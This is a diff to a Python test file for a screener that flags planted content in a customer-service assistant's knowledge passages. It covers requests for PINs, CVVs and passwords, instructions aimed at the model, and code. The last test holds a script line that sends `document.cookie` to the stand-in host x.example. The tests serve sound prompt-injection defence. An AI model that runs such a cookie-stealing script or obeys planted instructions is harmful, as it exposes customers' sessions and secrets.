@@ -107,8 +107,8 @@ FEES = "Our current account has no monthly fee. Cards are free and arrive in fiv
 def test_t65_requests_for_secrets_or_data_in_knowledge_are_held_back(
     planted: str, reason: str
 ) -> None:
-    """Issue 19: plain-language instructions, to the customer or to whoever answers them, that
-    ask for a PIN, passcode, one-time code, CVV, password or card number, or send data away."""
+    """T-65, issue 19: plain-language instructions, to the customer or to whoever answers them,
+    that ask for a PIN, passcode, one-time code, CVV, password or card number, or send data away."""
     assert reason in {finding.reason for finding in screen(f"{FEES} {planted}")}
 
 
@@ -128,7 +128,7 @@ def test_t65_requests_for_secrets_or_data_in_knowledge_are_held_back(
     ],
 )
 def test_t65_instructions_aimed_at_the_model_are_held_back_by_class(planted: str) -> None:
-    """Issue 19: orders to rewrite the answer, to work on customers, to insert or promote
+    """T-65, issue 19: orders to rewrite the answer, to work on customers, to insert or promote
     something, questions and tasks foreign to the page, and code offered for "your" program."""
     reasons = {finding.reason for finding in screen(f"{FEES}\n\n{planted}")}
     assert reasons & {"model_instruction", "code"}, planted
@@ -144,7 +144,8 @@ def test_a_customers_own_question_may_mention_their_secrets() -> None:
 
 
 def test_t65_a_script_in_markdown_is_flagged_as_code() -> None:
-    """Issue 19: Markdown keeps a `<script>` element as passage text; it is never live."""
+    """T-65, issue 19: Markdown keeps a `<script>` element as passage text; it never goes live
+    unreviewed."""
     passages, _ = read_source(
         SourceKind.MARKDOWN,
         b"# Help\nCall us any day.\n<script>fetch('https://x.example/?c=' + document.cookie)"
